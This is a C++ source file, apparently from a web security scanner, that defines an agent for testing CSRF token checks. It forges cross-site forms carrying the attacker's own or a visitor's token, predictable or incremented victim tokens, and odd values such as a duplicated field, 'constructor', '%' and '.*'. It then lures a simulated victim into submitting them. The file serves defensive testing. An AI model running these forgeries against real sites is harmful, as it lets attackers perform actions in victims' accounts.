// csrf-token: a forged form that carries a token after all: the attacker's own, one that the app
// gives to any visitor, or the victim's own where no cryptographic generator made it; or something
// that a comparison does not expect, such as the field twice, a single letter, or what every object
// of JavaScript has. A token must be the one of the session that the cookie names, and
// unpredictable (OWASP CSRF Prevention Cheat Sheet, "Synchronizer Token Pattern").
#include <algorithm>
#include <cstdlib>

#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/own_form.h"
#include "core/base/ascii.h"

namespace parapet::attack {
namespace {

constexpr std::string_view kHex = "0123456789abcdef";
constexpr std::string_view kLetters =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

class CsrfToken final : public Agent {
    void run(Target& target) override {
        OwnHost* evil = any_host(target);
        if (evil == nullptr) return;
        std::vector<ForgedForm> forgeries;
        std::vector<http::QueryPair> tokens;
        for (Endpoint const* each : unsafe_endpoints(target)) {
            OwnForm const visitor = look_at_form(target, *each, As::Visitor);
            add_forgeries(forgeries, target, *each, visitor.tokens);
            OwnForm const own = look_at_form(target, *each, As::Attacker);
            add_forgeries(forgeries, target, *each, own.tokens);
            tokens.insert(tokens.end(), own.tokens.begin(), own.tokens.end());
            add_unexpected(forgeries, target, *each, own);
            add_next_numbers(forgeries, target, *each, visitor.token, own);
        }
        if (forgeries.empty()) {
            target.note("The app's own form carries no token that could be copied.");
            return;
        }
        if (!victim_signs_in(target)) return;
        auto const foreseen = foreseen_of(target, tokens);
        for (Endpoint const* each : unsafe_endpoints(target))
            add_forgeries(forgeries, target, *each, foreseen);
        target.wait(std::chrono::minutes(3));
        Lure lure(target, *evil);
        for (ForgedForm const& each : forgeries) lure.show(submitting(each));
        target.note("The forged forms carried tokens that the app had given to the attacker.");
        if (!foreseen.empty())
            target.note("No cryptographic generator has part in \"" + foreseen.front().name +
                        "\": they carried the victim's, too.");
    }

    // The field twice, which is an array to the app, a text that is shorter than a token, what a
    // plain object always has, and what fits any text where it is taken for a pattern of LIKE or
    // for a regular expression. Where the beginning of his own token is enough for his own session,
    // he tries all that another may begin with.
    static void add_unexpected(std::vector<ForgedForm>& to, Target& target,
                               Endpoint const& endpoint, OwnForm const& own) {
        if (own.tokens.empty() || own.token.empty()) return;
        std::vector<http::QueryPair> twice = with(own, "x");
        twice.insert(twice.end(), twice.begin(), twice.end());
        to.push_back(form_with(target, endpoint, twice));
        for (char const* text : {"x", "constructor", "%", ".*"})
            to.push_back(form_with(target, endpoint, with(own, text)));
        std::string const wrong(own.token.size(), own.token.front() == 'x' ? 'y' : 'x');
        std::string const start = own.token.substr(0, 1);
        if (status_with(target, endpoint, own, start) == status_with(target, endpoint, own, wrong))
            return;
        target.note("The first letter of a token is enough; the forged forms tried each.");
        bool const is_hex = own.token.find_first_not_of(kHex) == std::string::npos;
        for (char letter : is_hex ? kHex : kLetters)
            to.push_back(form_with(target, endpoint, with(own, std::string(1, letter))));
    }

    // Fields that say nothing: what comes back tells how far it got.
    static int status_with(Target& target, Endpoint const& endpoint, OwnForm own,
                           std::string const& token) {
        own.tokens = with(own, token);
        std::vector<std::string> const nothing(endpoint.parameters.size());
        return send_honestly(target, endpoint, nothing, own).status;
    }

    // This in the place of the token, and of those of its kind from other pages.
    static std::vector<http::QueryPair> with(OwnForm const& own, std::string const& token) {
        std::vector<http::QueryPair> tokens = own.tokens;
        for (http::QueryPair& each : tokens)
            if (each.value.size() == own.token.size()) each.value = token;
        return tokens;
    }

    // Math.random, a digest of the time or of the name: tokens named like his own, each once.
    static std::vector<http::QueryPair> foreseen_of(Target& target,
                                                    std::vector<http::QueryPair> const& own) {
        std::vector<http::QueryPair> foreseen;
        for (LeakedValue const& each : target.victim()->foreseen())
            if (each.where == "page" && has(own, each.name) && !has(foreseen, each.name))
                foreseen.push_back({each.name, each.value});
        return foreseen;
    }

    // Two that differ in a number: the victim's is one of the next.
    static void add_next_numbers(std::vector<ForgedForm>& to, Target& target,
                                 Endpoint const& endpoint, std::string const& older,
                                 OwnForm const& own) {
        constexpr int kMost = 6;
        std::string const& last = own.token;
        auto const [start, end] = number_in_which_differ(older, last);
        if (start == end) return;
        target.note("The token \"" + last + "\" is numbered: the forged forms carried the next.");
        int const number = std::atoi(last.substr(start, end - start).c_str());
        for (int next = number + 1; next <= number + kMost; ++next)
            to.push_back(form_with(
                target, endpoint,
                with(own, last.substr(0, start) + std::to_string(next) + last.substr(end))));
    }

    // As much of the second as is digits where the two differ; nothing when other letters do.
    static std::pair<std::size_t, std::size_t> number_in_which_differ(std::string const& a,
                                                                      std::string const& b) {
        constexpr std::size_t kLongest = 8;
        std::size_t start = 0;
        while (start < a.size() && start < b.size() && a[start] == b[start]) ++start;
        while (start > 0 && ascii::is_digit(b[start - 1])) --start;
        auto const end_of = [start](std::string const& text) {
            std::size_t end = start;
            while (end < text.size() && ascii::is_digit(text[end])) ++end;
            return end;
        };
        std::size_t const end = end_of(b);
        bool const is_number = a != b && end > start && end - start <= kLongest &&
                               a.substr(end_of(a)) == b.substr(end);
        return is_number ? std::pair(start, end) : std::pair(start, start);
    }

    static bool has(std::vector<http::QueryPair> const& tokens, std::string_view name) {
        return std::any_of(tokens.begin(), tokens.end(),
                           [&](http::QueryPair const& each) { return each.name == name; });
    }

    static void add_forgeries(std::vector<ForgedForm>& to, Target const& target,
                              Endpoint const& endpoint,
                              std::vector<http::QueryPair> const& tokens) {
        if (tokens.empty()) return;
        ForgedForm form = form_with(target, endpoint, tokens);
        to.push_back(form);
        to.push_back(json_as_text(form.action, form.fields));
    }

    static ForgedForm form_with(Target const& target, Endpoint const& endpoint,
                                std::vector<http::QueryPair> const& tokens) {
        ForgedForm form{.action = address_of(target, endpoint), .fields = wanted_fields(endpoint)};
        if (endpoint.method != "POST") form.action += "?_method=" + endpoint.method;
        for (http::QueryPair const& token : tokens) form.fields.push_back(token);
        return form;
    }
};

}  // namespace

std::unique_ptr<Agent> make_csrf_token() { return std::make_unique<CsrfToken>(); }

}  // namespace parapet::attack
